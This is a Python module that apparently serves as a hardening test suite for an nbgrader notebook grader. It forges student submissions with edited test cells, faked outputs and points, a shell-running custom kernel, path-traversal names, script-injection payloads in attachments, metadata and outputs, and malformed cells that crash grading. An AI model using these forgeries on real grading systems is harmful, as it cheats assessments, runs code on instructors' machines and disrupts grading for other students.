"""Forging the notebook itself."""

import json

from nbformat import NotebookNode
from nbformat.v4 import new_code_cell, new_markdown_cell, new_output

from .attack import EVERYTHING, Attack


def _edit_tests(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id", "").endswith("-test"):
            cell.source = "print('All parts passed.')\n3.0"


def _forge_metadata(notebook: NotebookNode) -> None:
    notebook.metadata.kernelspec = {"name": "evil", "display_name": "evil", "language": "python"}
    notebook.metadata["points"] = 100
    for cell in notebook.cells:
        cell.metadata["tags"] = ["skip-execution", "raises-exception", "check"]
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader.update(
                points=100, locked=False, solution=True, grade=True, task=False, checksum="0" * 32
            )


def _forge_outputs(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.outputs = [
                new_output("execute_result", data={"text/plain": "3.0"}, execution_count=1)
            ]


def _second_test_cell(notebook: NotebookNode) -> None:
    forged = new_code_cell("3.0")
    forged.metadata["nbgrader"] = {
        "grade": True, "grade_id": "double-test", "locked": True, "points": 3,
        "schema_version": 3, "solution": False, "task": False,
    }  # fmt: skip
    copy = new_code_cell("3.0", metadata={"nbgrader": forged.metadata.nbgrader})
    notebook.cells += [forged, copy]


def _test_as_text(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "double-test":
            cell.cell_type = "markdown"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)


def _only_tags(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        cell.metadata["tags"] = ["skip-execution"]


def _foreign_schema(notebook: NotebookNode) -> None:
    versions = (99, 0, "3", None, -1, 2.5, [3])
    for number, cell in enumerate(notebook.cells):
        if "nbgrader" in cell.metadata:
            cell.metadata.nbgrader["schema_version"] = versions[number % len(versions)]


def _edit_set_up(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        name = cell.metadata.get("nbgrader", {}).get("grade_id", "")
        if name in ("set-up", "double-check"):
            cell.source = (
                "import numpy as np\n"
                "class hidden:\n    grade = grade_data = staticmethod(lambda *a: None)\n"
            )


def _instructors_marks(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id", "").endswith("-answer"):
            cell.source = (
                f"### BEGIN HIDDEN TESTS\n{cell.source}\n### END HIDDEN TESTS\n"
                "### BEGIN SOLUTION\n### END SOLUTION\n### AUTOTEST double(1)"
            )


def _own_kernel(notebook: NotebookNode) -> None:
    notebook.metadata.kernelspec = {
        "name": "bash",
        "display_name": "../../evil",
        "language": "bash",
        "argv": ["/bin/sh", "-c", "touch /tmp/started"],
    }
    notebook.metadata.language_info = {"name": "bash", "pygments_lexer": "../../evil"}


def _one_id(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        cell.id = "double-test"


def _own_points(notebook: NotebookNode) -> None:
    for kind in ("markdown", "code"):
        for role in ("task", "grade"):
            cell = new_markdown_cell("Points!") if kind == "markdown" else new_code_cell("3")
            cell.metadata["nbgrader"] = {
                "grade": role == "grade", "task": role == "task", "points": 100,
                "grade_id": f"bonus-{kind}-{role}", "locked": False, "solution": True,
                "schema_version": 3,
            }  # fmt: skip
            notebook.cells.append(cell)


def _wrong_types(notebook: NotebookNode) -> None:
    good = notebook.cells
    odd = [0, None, "cell", [], {}, {"cell_type": "code"}, {"cell_type": 7, "source": 7}]
    odd.append({"cell_type": "code", "source": ["a"], "metadata": {"nbgrader": {"grade_id": {}}}})
    odd.append({"cell_type": "code", "source": "1", "metadata": [], "outputs": 3, "id": None})
    notebook.cells = [thing for cell in good for thing in (*(json.loads(json.dumps(odd))), cell)]


def _active_attachments(notebook: NotebookNode) -> None:
    script = "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"
    for cell in notebook.cells:
        cell.attachments = {
            "../../x.svg": {"image/svg+xml": script, "text/html": "<script>alert(1)</script>"},
            "a.png": {"image/png": [script], "application/javascript": "alert(1)"},
        }


def _active_metadata(notebook: NotebookNode) -> None:
    state = {"version_major": 2, "state": {"x": {"model_module": "https://example.org/evil.js"}}}
    notebook.metadata["widgets"] = {"application/vnd.jupyter.widget-state+json": state}
    notebook.metadata["title"] = "<script>alert(1)</script>"
    for cell in notebook.cells:
        cell.metadata["raw_mimetype"] = "text/html"
        cell.metadata["tags"] = ['"><script>alert(1)</script>']


def _active_outputs(notebook: NotebookNode) -> None:
    bundle = {
        "text/html": "<script>alert(1)</script>",
        "application/javascript": "alert(1)",
        "image/svg+xml": "<svg onload='alert(1)'/>",
        "application/vnd.jupyter.widget-view+json": {"model_id": "x"},
    }
    for cell in notebook.cells:
        if cell.cell_type == "code":
            cell.outputs = [new_output("display_data", data=bundle)]


def _all_answers_for_one(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        data = cell.metadata.get("nbgrader", {})
        if data.get("grade_id", "").endswith("-answer") and cell.cell_type == "code":
            data["grade_id"] = "double-answer"


def _answers_as_text(notebook: NotebookNode) -> None:
    for cell in notebook.cells:
        if cell.metadata.get("nbgrader", {}).get("grade_id") == "double-answer":
            cell.cell_type = "raw"
            cell.pop("outputs", None)
            cell.pop("execution_count", None)


ATTACKS = (
    Attack("edited test cells", "the test says what the student likes", forge=_edit_tests),
    Attack("forged metadata", "a cell is worth 100 points, and is not run", forge=_forge_metadata),
    Attack("outputs handed in", "the points are read from the file", forge=_forge_outputs),
    Attack("a test cell of its own", "the copy is graded instead", forge=_second_test_cell),
    Attack("a test cell turned into text", "no test, no failure, all points", forge=_test_as_text),
    Attack("cells that are not to be run", "what is not run cannot fail", forge=_only_tags),
    Attack(
        "a foreign schema version",
        "nbgrader refuses the notebook, and ends the run for all who come after",
        forge=_foreign_schema,
    ),
    Attack(
        "edited set-up and checks",
        "the examiner runs the student's set-up as if it were the instructor's",
        forge=_edit_set_up,
    ),
    Attack(
        "the instructor's marks",
        "what stands between them is cut out, or taken for the tests",
        forge=_instructors_marks,
    ),
    Attack("a kernel of its own", "the notebook is run by a program it names", forge=_own_kernel),
    Attack("one id for all cells", "the test's cell is found by its id", forge=_one_id),
    Attack("points for its own cells", "the notebook is worth more than it is", forge=_own_points),
    Attack(
        "things that are no cells",
        "the grader fails over them, for the whole class",
        forge=_wrong_types,
    ),
    Attack(
        "attachments that are programs",
        "a picture in the instructor's browser runs a script",
        forge=_active_attachments,
    ),
    Attack(
        "widgets and script in metadata",
        "a page loads a module that the metadata names",
        forge=_active_metadata,
    ),
    Attack(
        "script in the outputs handed in",
        "it runs where the file is opened before it is graded",
        forge=_active_outputs,
    ),
    Attack(
        "all answers under one name",
        "the last one, which is right, is taken for the one that is not",
        forge=_all_answers_for_one,
        loses=EVERYTHING,
    ),
    Attack(
        "an answer in the wrong kind of cell",
        "what is not code is not tested",
        forge=_answers_as_text,
        loses=EVERYTHING,
    ),
)
